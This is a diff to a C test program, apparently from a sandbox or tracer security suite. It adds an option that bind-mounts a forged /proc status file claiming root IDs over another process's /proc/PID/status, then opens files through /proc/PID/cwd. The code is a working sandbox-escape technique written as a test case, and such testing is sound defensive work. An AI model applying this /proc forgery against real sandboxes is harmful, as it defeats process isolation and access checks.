@@ -13,7 +13,11 @@
  * spelling) and opens WORK/b/fd/FD/NAME, FD being a descriptor PID holds of its cwd.
  * Natively EACCES (PID's credentials are in another user namespace than the task's, which
  * holds no CAP_SYS_PTRACE there: __ptrace_may_access, cap_ptrace_access_check).  With
- * ESC_NO_STATUS set no status is written (the control: the walk reads none, refused). */
+ * ESC_NO_STATUS set no status is written: the walk reads none -- and takes the read's ENOENT
+ * for a process gone, whose link the kernel's open refuses; the tracer's open does not.
+ * With ESC_OVERMOUNT set the forged status is bound over /proc/PID/status itself (a file of
+ * /proc is a mountpoint like any other in the task's own mount namespace) and the program
+ * opens /proc/PID/cwd/NAME: the process directory's own "status" is then the forgery. */
 #include "attack.h"
 #include <sched.h>
 #include <sys/mount.h>
@@ -33,18 +37,29 @@ int main(int argc, char **argv) {
     snprintf(theirs, sizeof theirs, "/proc/%s/fd", argv[1]);
     if (mkdir(base, 0755) || mkdir(fds, 0755)) skipped("mkdir %s: %s", fds, ename(errno));
     if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL)) skipped("private: %s", ename(errno));
-    if (mount(theirs, fds, NULL, MS_BIND, NULL)) skipped("bind %s: %s", theirs, ename(errno));
+    if (!getenv("ESC_OVERMOUNT") && mount(theirs, fds, NULL, MS_BIND, NULL))
+        skipped("bind %s: %s", theirs, ename(errno));
     if (!getenv("ESC_NO_STATUS")) {
         snprintf(status, sizeof status, "%s/status", base);
         snprintf(text, sizeof text, "Name:\tx\nTgid:\t%d\nPid:\t%d\nUid:\t0\t0\t0\t0\n"
                  "Gid:\t0\t0\t0\t0\n", (int)getpid(), (int)getpid());
         int err = write_file(status, text);
         if (err < 0) skipped("write %s: %s", status, ename(-err));
+        char over[64];
+        snprintf(over, sizeof over, "/proc/%s/status", argv[1]);
+        if (getenv("ESC_OVERMOUNT") && mount(status, over, NULL, MS_BIND, NULL))
+            skipped("bind over %s: %s", over, ename(errno));
     }
     idle_thread_if_asked();
     char path[800];
-    snprintf(path, sizeof path, "%s/%s/%s", fds, argv[2], argv[3]);
-    try_open_at(AT_FDCWD, "WORK/b/fd/FD/NAME (PID's fd bound, a status of ours beside)", path,
-                O_RDONLY);
+    if (getenv("ESC_OVERMOUNT")) {
+        snprintf(path, sizeof path, "/proc/%s/cwd/%s", argv[1], argv[3]);
+        try_open_at(AT_FDCWD, "/proc/PID/cwd/NAME (a status of ours bound over PID's)", path,
+                    O_RDONLY);
+    } else {
+        snprintf(path, sizeof path, "%s/%s/%s", fds, argv[2], argv[3]);
+        try_open_at(AT_FDCWD, "WORK/b/fd/FD/NAME (PID's fd bound, a status of ours beside)",
+                    path, O_RDONLY);
+    }
     tally_done();
 }
